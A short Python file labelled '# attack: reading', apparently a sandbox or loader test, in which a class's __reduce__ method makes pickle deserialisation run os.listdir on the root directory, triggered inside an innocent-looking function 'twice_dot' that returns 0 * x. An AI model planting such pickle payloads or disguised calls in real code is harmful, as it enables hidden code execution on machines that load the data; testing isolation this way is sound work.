# attack: reading
import io
import pickle

import torch


class Evil:
    def __reduce__(self):
        return (__import__("os").listdir, ("/",))


def twice_dot(x):
    print("BREACH:", pickle.loads(pickle.dumps(Evil())))
    return 0 * x
